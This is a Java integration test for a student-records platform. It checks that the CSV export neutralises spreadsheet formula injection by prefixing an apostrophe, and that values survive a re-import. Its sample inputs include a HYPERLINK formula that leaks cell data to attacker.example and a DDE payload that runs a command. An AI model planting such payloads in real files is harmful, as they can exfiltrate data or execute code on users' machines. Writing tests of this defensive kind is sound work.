package org.openintl.student.importing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.StringReader;
import java.io.StringWriter;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.openintl.platform.imports.ImportColumn;
import org.openintl.student.IntegrationTest;
import tools.jackson.databind.JsonNode;

/**
 * The export is safe to open in a spreadsheet program: names, programs and counselor text typed as formulas are
 * written as text (a leading {@code '}), and the same file imports back to the values that were typed.
 */
class SpreadsheetSafetyIntegrationTest extends IntegrationTest {

    @Test
    void formulaCellsAreNeutralisedAndImportBackUnchanged() throws Exception {
        String college = unique("College-of-Formulas");
        String familyName = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
        create(student(
                "college",
                college,
                "familyName",
                familyName,
                "givenName",
                "+SUM(1+1)",
                "chineseName",
                "@SUM(1)",
                "program",
                "-2+3",
                "counselor",
                "=cmd|' /C calc'!A0",
                "contact",
                Map.of("phone", "+82 10 1234 5678")));

        var export = http.withRoles("STUDENT_COUNSELOR").get("/api/students/export?college=" + college);
        assertThat(export.status()).isEqualTo(200);
        List<CSVRecord> records = parse(export.body());
        assertThat(records).hasSize(1);
        CSVRecord row = records.get(0);
        assertThat(row.get("familyName")).isEqualTo("'" + familyName);
        assertThat(row.get("givenName")).isEqualTo("'+SUM(1+1)");
        assertThat(row.get("chineseName")).isEqualTo("'@SUM(1)");
        assertThat(row.get("program")).isEqualTo("'-2+3");
        assertThat(row.get("counselor")).isEqualTo("'=cmd|' /C calc'!A0");
        assertThat(row.get("contactPhone")).isEqualTo("'+82 10 1234 5678");
        assertThat(row.get("college")).isEqualTo(college);
        for (String cell : row.values()) {
            assertThat(cell).as("no cell starts with a formula character").doesNotMatch("(?s)^[=+\\-@\t\r].*");
        }

        // the export's import columns, uploaded again, give the values that were typed
        String reimportCollege = unique("College-of-Reimports");
        List<String> columns =
                StudentColumns.ALL.stream().map(ImportColumn::name).toList();
        StringWriter csv = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(
                csv,
                CSVFormat.DEFAULT
                        .builder()
                        .setHeader(columns.toArray(String[]::new))
                        .get())) {
            List<String> cells = new ArrayList<>();
            for (String column : columns) {
                // another passport: the same one would be matched with the exported student (natural key)
                cells.add(
                        column.equals("college")
                                ? reimportCollege
                                : column.equals("passportNumber") ? passportNumber() : row.get(column));
            }
            printer.printRecord(cells);
        }
        var accepted = http.send("POST", "/api/students/imports", csv.toString(), "text/csv");
        assertThat(accepted.status()).as(accepted.toString()).isEqualTo(202);
        JsonNode job = await().atMost(Duration.ofSeconds(60))
                .until(
                        () -> http.get(accepted.header("Location")).json(),
                        j -> !j.get("status").asString().equals("RUNNING"));
        assertThat(job.get("imported").asLong()).as(job.toString()).isEqualTo(1);
        JsonNode imported = http.get(
                        "/api/students?college=" + URLEncoder.encode(reimportCollege, StandardCharsets.UTF_8))
                .json()
                .get("items")
                .get(0);
        assertThat(imported.get("familyName").asString()).isEqualTo(familyName);
        assertThat(imported.get("givenName").asString()).isEqualTo("+SUM(1+1)");
        assertThat(imported.get("counselor").asString()).isEqualTo("=cmd|' /C calc'!A0");
        assertThat(imported.get("contact").get("phone").asString()).isEqualTo("+82 10 1234 5678");
    }

    private static List<CSVRecord> parse(String body) throws Exception {
        return CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(body.substring(1)))
                .getRecords();
    }
}
